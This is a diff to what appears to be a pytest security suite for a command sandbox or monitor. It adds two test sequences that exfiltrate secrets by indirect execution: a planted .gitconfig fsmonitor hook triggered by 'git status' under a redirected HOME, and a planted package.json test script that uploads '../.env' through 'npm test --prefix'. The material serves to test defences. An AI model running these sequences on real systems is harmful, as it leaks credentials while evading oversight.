@@ -6,6 +6,7 @@ observe mode (it must, which shows it is a real attack), and the ordinary work e
 from __future__ import annotations
 
 import base64
+import json
 import shutil
 
 import pytest
@@ -98,6 +99,12 @@ SEQUENCES = [
                  id="dynamic-loader-launcher"),
     pytest.param(lambda s: [B(f"npx --yes sh -c '{upload(s)}'")], _leaked, marks=needs("npx", "curl"),
                  id="npx-sh"),
+    pytest.param(lambda s: [decoded_into("/tmp/h.$PPID/.gitconfig", f"[core]\n\tfsmonitor = \"{upload(s)} #\"\n"),
+                            B("echo /tmp/h.$PPID > home.txt"), B("HOME=$(cat home.txt) git status")], _leaked,
+                 marks=needs("git", "curl"), id="git-config-of-another-home"),
+    pytest.param(lambda s: [decoded_into("other/package.json", json.dumps(
+        {"name": "o", "scripts": {"test": upload(s).replace("@.env", "@../.env")}})),
+                            B("npm test --prefix=other")], _leaked, marks=needs("npm", "curl"), id="npm-prefix-after"),
 ]
 
 
